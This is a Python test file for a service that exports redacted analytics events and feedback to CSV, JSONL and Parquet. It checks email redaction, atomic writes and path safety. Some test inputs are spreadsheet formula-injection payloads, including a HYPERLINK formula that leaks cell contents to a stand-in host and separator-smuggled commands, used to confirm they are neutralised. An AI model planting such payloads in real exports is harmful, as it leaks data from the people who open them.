"""Exports for BI: every format holds the same redacted events; nothing half-written."""

from __future__ import annotations

import csv
import json
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine

from knowledge_service.analytics import export as export_module
from knowledge_service.analytics.export import ExportFormat, ExportTable, export_events
from knowledge_service.analytics.log import AnswerLog, LoggedAnswer, conversation_key
from knowledge_service.analytics.models import AnswerEvent, Feedback
from knowledge_service.db import session_scope
from knowledge_service.errors import InvalidRequestError

T0 = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)


def fill(engine: Engine, n: int) -> None:
    log = AnswerLog(engine)
    for i in range(n):
        log.record(
            LoggedAnswer(
                kind="answer",
                question=f"question {i} from jo@example.com",
                latency_ms=1.5,
                channel="chat",
                status="answered",
                confidence=0.9,
                at=T0 + timedelta(minutes=i),
            )
        )
    log.flush()


def read(path: Path, fmt: ExportFormat) -> list[dict[str, object]]:
    if fmt == ExportFormat.CSV:
        with path.open(encoding="utf-8", newline="") as handle:
            return list(csv.DictReader(handle))
    if fmt == ExportFormat.JSONL:
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    import pyarrow.parquet as pq

    return pq.read_table(path).to_pylist()  # type: ignore[no-any-return]


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_export_holds_the_redacted_events_since(
    engine: Engine, tmp_path: Path, fmt: ExportFormat
) -> None:
    fill(engine, 12)
    out = tmp_path / f"events.{fmt}"
    with session_scope(engine) as session:
        assert export_events(session, out, fmt, since=T0 + timedelta(minutes=2)) == 10
    rows = read(out, fmt)
    assert len(rows) == 10
    assert rows[0]["question"] == "question 2 from [EMAIL]"
    assert "jo@example.com" not in out.read_bytes().decode("utf-8", "replace")
    assert str(rows[-1]["status"]) == "answered"


def test_every_format_holds_every_column_and_the_handoff(engine: Engine, tmp_path: Path) -> None:
    handoff = {"reason": "low_confidence", "intent": "billing.fees", "candidates": []}
    log = AnswerLog(engine)
    log.record(
        LoggedAnswer(
            kind="answer", question="fees?", latency_ms=1.0, channel="voice", status="escalate",
            handoff=handoff, at=T0,
        )
    )  # fmt: skip
    log.flush()
    for fmt in ExportFormat:
        out = tmp_path / f"events.{fmt}"
        with session_scope(engine) as session:
            export_events(session, out, fmt, since=None)
        [row] = read(out, fmt)
        assert sorted(row) == sorted(export_module.columns_of(ExportTable.ANSWERS)), fmt
        held = row["handoff"] if fmt == ExportFormat.JSONL else json.loads(str(row["handoff"]))
        assert held == handoff, fmt


def test_a_failed_export_leaves_no_file(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(engine, 3)

    def broken(rows: object, path: Path, spec: object) -> int:
        path.write_text("half")
        raise OSError("disk full")

    monkeypatch.setitem(export_module._WRITERS, ExportFormat.CSV, broken)
    out = tmp_path / "exports" / "events.csv"
    out.parent.mkdir()
    with session_scope(engine) as session, pytest.raises(OSError):
        export_events(session, out, ExportFormat.CSV, since=None)
    assert list(out.parent.iterdir()) == []


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://x.example/?"&A1,"click") fee', "+1+1",
                                   "-2+3", "@SUM(A1)", "\t=1", "\r=1", ' =HYPERLINK("x")',
                                   "\u00a0 +1", ";=cmd", " ; -2+3", ",@SUM(A1)"])  # fmt: skip
def test_a_question_a_spreadsheet_would_run_is_text_in_the_csv(
    engine: Engine, tmp_path: Path, typed: str
) -> None:
    log = AnswerLog(engine)
    log.record(LoggedAnswer(kind="answer", question=typed, latency_ms=1.0, channel="chat",
                            status="no_answer", at=T0))  # fmt: skip
    log.flush()
    with session_scope(engine) as session:
        export_events(session, tmp_path / "e.csv", ExportFormat.CSV, since=None)
        export_events(session, tmp_path / "e.jsonl", ExportFormat.JSONL, since=None)
    (row,) = read(tmp_path / "e.csv", ExportFormat.CSV)
    assert row["question"] == "'" + read(tmp_path / "e.jsonl", ExportFormat.JSONL)[0]["question"]
    assert str(row["question"]).startswith("'")
    assert row["channel"] == "chat" and row["status"] == "no_answer"  # plain cells as they were


def test_a_separator_inside_a_text_cell_never_starts_a_cell_and_numbers_stay_numbers(
    engine: Engine, tmp_path: Path
) -> None:
    """Where ``;`` is the locale's separator, ``fees;=cmd`` left bare would open as a cell
    ``=cmd``: every text cell is quoted; a number is written bare, so ``-5`` stays a number."""
    log = AnswerLog(engine)
    log.record(LoggedAnswer(kind="answer", question="fees;=cmd", latency_ms=-5.0, channel="chat",
                            status="no_answer", at=T0))  # fmt: skip
    log.flush()
    with session_scope(engine) as session:
        export_events(session, tmp_path / "e.csv", ExportFormat.CSV, since=None)
    text = (tmp_path / "e.csv").read_text(encoding="utf-8")
    assert ',"fees;=cmd",' in text and ",-5.0," in text
    (row,) = read(tmp_path / "e.csv", ExportFormat.CSV)
    assert (row["question"], row["latency_ms"], row["version"]) == ("fees;=cmd", "-5.0", "")


@pytest.mark.parametrize("kind", ["symlink", "fifo", "folder", "dash"])
def test_an_export_never_replaces_what_is_not_a_regular_file(
    engine: Engine, tmp_path: Path, kind: str
) -> None:
    """The rename into place would replace a device (/dev/full once became a file), a FIFO or
    a symlink (whose target was never written): such a path is refused and left as it is."""
    target = tmp_path / "target.csv"
    target.write_text("kept\n")
    out = tmp_path / "out.csv"
    if kind == "symlink":
        out.symlink_to(target)
    elif kind == "fifo":
        os.mkfifo(out)
    elif kind == "folder":
        out.mkdir()
    else:
        out = tmp_path / "-"
    with session_scope(engine) as session, pytest.raises(InvalidRequestError):
        export_events(session, out, ExportFormat.CSV, None)
    assert target.read_text() == "kept\n"
    assert (out.is_symlink(), out.exists()) == (kind == "symlink", kind != "dash")


def test_conversation_pseudonyms_are_exported_as_stored(engine: Engine, tmp_path: Path) -> None:
    """A pseudonym's hex digits may read as a number or an IBAN ("anon-85378042332c..."):
    redacted again, different conversations would merge in the export."""
    key = b"k" * 32
    log = AnswerLog(engine, pseudonym_key=key)
    ids = ["c-4", "c-35", "c-38", "c-51", "c-1"]
    for i, conversation in enumerate(ids):
        at = T0 + timedelta(minutes=i)
        log.record(
            LoggedAnswer(kind="answer", question="refund", latency_ms=1.0,
                         conversation_id=conversation, at=at)
        )  # fmt: skip
    log.flush()
    out = tmp_path / "events.jsonl"
    with session_scope(engine) as session:
        export_events(session, out, ExportFormat.JSONL, since=None)
    exported = [row["conversation_id"] for row in read(out, ExportFormat.JSONL)]
    assert exported == [conversation_key(c, key) for c in ids]


@pytest.mark.parametrize("table", list(ExportTable))
def test_an_export_holds_every_column_of_its_table(table: ExportTable) -> None:
    """A column added to the answer log or the feedback reaches BI (or is left out on purpose,
    here)."""
    model = {ExportTable.ANSWERS: AnswerEvent, ExportTable.FEEDBACK: Feedback}[table]
    assert export_module.columns_of(table) == list(model.model_fields)


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_the_feedback_exports_redacted_with_conversations_as_pseudonyms(
    engine: Engine, tmp_path: Path, fmt: ExportFormat
) -> None:
    fill(engine, 1)
    with session_scope(engine) as session:
        session.add(Feedback(receipt="rcpt_" + "a" * 32, rating="wrong", at=T0,
                             comment="=customer jo@example.com says $20", article_id="fees",
                             version=2, channel="chat", caller="bot-1",
                             conversation_id=conversation_key("chat-1", None)))  # fmt: skip
        session.add(Feedback(receipt="rcpt_" + "b" * 32, rating="helpful", at=T0 - timedelta(1)))
    out = tmp_path / f"feedback.{fmt}"
    with session_scope(engine) as session:
        assert export_events(session, out, fmt, since=T0, table=ExportTable.FEEDBACK) == 1
    [row] = read(out, fmt)
    assert sorted(row) == sorted(export_module.columns_of(ExportTable.FEEDBACK))
    comment = "=customer [EMAIL] says $20"
    assert row["comment"] == ("'" + comment if fmt == ExportFormat.CSV else comment)
    assert (row["rating"], row["article_id"], str(row["version"])) == ("wrong", "fees", "2")
    assert row["conversation_id"] == conversation_key("chat-1", None)
    assert "jo@example.com" not in out.read_bytes().decode("utf-8", "replace")


def test_a_flag_is_true_or_false_in_the_csv_as_in_the_other_formats(
    engine: Engine, tmp_path: Path
) -> None:
    """BI tools read ``true``/``false``; Python's ``True``/``False`` is a string to some."""
    log = AnswerLog(engine)
    for stale in (True, False):
        log.record(LoggedAnswer(kind="answer", question="fees?", latency_ms=1.0, channel="chat",
                                status="answered", stale=stale, at=T0))  # fmt: skip
    log.flush()
    with session_scope(engine) as session:
        export_events(session, tmp_path / "e.csv", ExportFormat.CSV, since=None)
    assert [row["stale"] for row in read(tmp_path / "e.csv", ExportFormat.CSV)] == ["true", "false"]


def test_an_export_keeps_only_the_rows_its_filter_names(engine: Engine, tmp_path: Path) -> None:
    """The insights page's downloads hold what the page counts: rows before ``until``, on a
    channel, about an intent (a rating kept before ratings kept their intent: its answer's)."""
    with session_scope(engine) as session:
        served = [(0, "chat", "billing.due-date"), (1, "voice", None), (2, "chat", "fees.late"),
                  (90, "chat", "billing.due-date")]  # fmt: skip
        for minutes, channel, intent in served:
            session.add(AnswerEvent(
                kind="answer", question="q", latency_ms=1.0, channel=channel, intent=intent,
                status="answered", receipt=f"rcpt_{minutes:032d}",
                at=T0 + timedelta(minutes=minutes),
            ))  # fmt: skip
        session.add(Feedback(receipt=f"rcpt_{0:032d}", rating="wrong", at=T0, channel="chat"))
        session.add(Feedback(receipt=f"rcpt_{2:032d}", rating="wrong", at=T0, channel="chat",
                             intent="fees.late"))  # fmt: skip
    only = export_module.RowFilter(
        until=T0 + timedelta(hours=1), channel="chat", intent="billing.due-date"
    )
    with session_scope(engine) as session:
        out = tmp_path / "answers.csv"
        assert export_events(session, out, ExportFormat.CSV, T0, ExportTable.ANSWERS, only) == 1
        assert [r["receipt"] for r in read(out, ExportFormat.CSV)] == [f"rcpt_{0:032d}"]
        out = tmp_path / "feedback.csv"
        assert export_events(session, out, ExportFormat.CSV, T0, ExportTable.FEEDBACK, only) == 1
        assert [r["receipt"] for r in read(out, ExportFormat.CSV)] == [f"rcpt_{0:032d}"]
